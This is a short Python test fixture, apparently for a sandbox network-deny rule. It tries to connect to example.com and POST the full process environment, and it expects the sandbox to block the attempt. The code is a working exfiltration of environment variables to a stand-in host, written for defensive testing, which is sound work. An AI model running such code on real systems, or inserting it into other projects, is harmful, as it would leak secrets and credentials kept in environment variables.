#!/usr/bin/env python3
# tries: look up a public name and send the environment to it over HTTP
# must: get no answer; the look-up itself is a recorded attempt on port 53
# expect: exit=1 status=exited verdict=violated rule=network-connect/deny network=*:53 stdout-lacks=connected
# control: skipped, it would leave the machine

import os
import socket
import sys

try:
    connection = socket.create_connection(("example.com", 80), timeout=5)
except OSError as error:
    sys.exit(f"no connection: {error}")
print("connected")
body = repr(dict(os.environ)).encode()
connection.sendall(b"POST / HTTP/1.1\r\nHost: example.com\r\n\r\n" + body)
